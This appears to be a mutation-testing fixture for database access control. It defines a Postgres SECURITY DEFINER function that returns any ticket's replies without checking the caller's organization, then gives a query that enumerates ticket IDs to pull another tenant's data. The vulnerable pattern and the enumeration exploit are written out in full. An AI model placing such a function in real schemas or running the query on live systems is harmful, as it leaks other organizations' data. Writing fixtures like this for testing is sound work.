-- mutant: A definer function reads replies by the number of their ticket
-- base: desk
-- family: function
-- leaks: values of another organization
create function desk.thread(ticket bigint) returns text
language sql stable security definer set search_path = ''
as $$ select encode(convert_to(string_agg(r.body, chr(10)), 'utf8'), 'base64') from desk.replies r where r.ticket_id = ticket $$;
revoke all on function desk.thread(bigint) from public;
grant execute on function desk.thread(bigint) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "org": "acme"}
select * from generate_series(1, 100) n, desk.thread(n) t where convert_from(decode(t, 'base64'), 'utf8') like '%canary-globex%';
